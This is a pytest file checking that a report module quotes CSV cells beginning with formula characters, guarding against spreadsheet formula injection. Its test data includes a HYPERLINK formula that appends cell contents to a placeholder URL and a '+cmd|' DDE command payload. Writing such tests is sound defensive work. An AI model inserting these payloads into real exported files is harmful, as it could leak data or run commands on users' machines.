"""Issue 9.4: no CSV cell a spreadsheet would run as a formula (OWASP's rule)."""

from __future__ import annotations

import pandas as pd
import pytest

from b12risk.report.spreadsheet import safe_cell, safe_frame, write_csv

CELLS = [
    # (written, as the CSV holds it)
    ('=HYPERLINK("http://x"&A1,"x")', '\'=HYPERLINK("http://x"&A1,"x")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("-2+3", "'-2+3"),
    ("\t=1", "'\\x09=1"),  # quoted, and the tab shown as an escape (issue 9.5)
    ("\r=1", "'\\x0d=1"),
    ("A8\x1b[2J", "A8\\x1b[2J"),
    ("A81004", "A81004"),
    ("2024-01-31", "2024-01-31"),
    ("a=b", "a=b"),
    ("", ""),
]


@pytest.mark.parametrize(("value", "written"), CELLS)
def test_a_text_cell_starting_with_a_formula_character_is_quoted(value, written):
    assert safe_cell(value) == written


def test_numbers_negative_ones_included_and_missing_values_are_left_alone():
    frame = pd.DataFrame(
        {
            "practice_id": ["=1+1", "P1", None],
            "n": pd.array([-2, 5, None], dtype="Int64"),
            "rate": [-0.5, 0.25, float("nan")],
            "flag": [True, False, True],
        }
    )
    safe = safe_frame(frame)
    assert list(safe["practice_id"][:2]) == ["'=1+1", "P1"] and pd.isna(safe["practice_id"][2])
    pd.testing.assert_series_equal(safe["n"], frame["n"])
    pd.testing.assert_series_equal(safe["rate"], frame["rate"])
    assert list(frame["practice_id"][:1]) == ["=1+1"]  # the caller's frame is not changed


def test_write_csv_writes_the_safe_cells(tmp_path):
    write_csv(pd.DataFrame({"a": ["@x", "-3"], "n": [-3, 4]}), tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == "a,n\n'@x,-3\n'-3,4\n"
